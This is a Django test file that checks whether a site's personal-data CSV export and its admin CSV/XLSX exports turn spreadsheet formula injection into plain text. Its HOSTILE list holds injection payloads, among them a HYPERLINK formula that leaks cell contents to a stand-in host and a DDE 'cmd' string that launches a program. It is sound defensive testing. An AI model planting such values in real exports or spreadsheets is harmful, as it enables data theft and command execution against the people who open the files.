"""No export hands Excel a formula (issue 21, finding 10): a 留言 name `=HYPERLINK(…)`
comes out as text, in the personal-data CSV and in the admin's CSV/XLSX downloads."""

import csv
import io

import openpyxl
import pytest
from django.core.management import call_command
from django.urls import reverse

from association.models import MemberUnit
from tests import factories

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


def test_personal_data_csv_shows_formulas_as_text(capsys):
    for number, name in enumerate(HOSTILE):
        factories.MessageFactory(subject=f"留言{number}", name=name, phone="13800138000")
    call_command("personal_data", "export", "--phone", "13800138000", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out.lstrip("\ufeff"))))
    assert sorted(row["姓名"] for row in rows) == sorted("'" + name for name in HOSTILE)
    assert all(row["联系电话"] == "13800138000" for row in rows)  # plain values untouched


@pytest.fixture
def units(db):
    for name in HOSTILE:
        MemberUnit.objects.create(name=name)
    MemberUnit.objects.create(name="苏州工业园区")


@pytest.fixture
def admin_client(client, django_user_model):
    client.force_login(django_user_model.objects.create_superuser("admin", "a@example.org", "x"))
    return client


def test_member_unit_csv_export_shows_formulas_as_text(admin_client, units):
    url = reverse("wagtailsnippets_association_memberunit:list")
    response = admin_client.get(url, {"export": "csv"})
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    names = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert sorted(names) == sorted(["'" + name for name in HOSTILE] + ["苏州工业园区"])


def test_member_unit_xlsx_export_shows_formulas_as_text(admin_client, units):
    url = reverse("wagtailsnippets_association_memberunit:list")
    response = admin_client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted(["'" + name for name in HOSTILE] + ["苏州工业园区"])
    assert all(row[0].data_type == "s" for row in sheet.iter_rows(min_row=2))
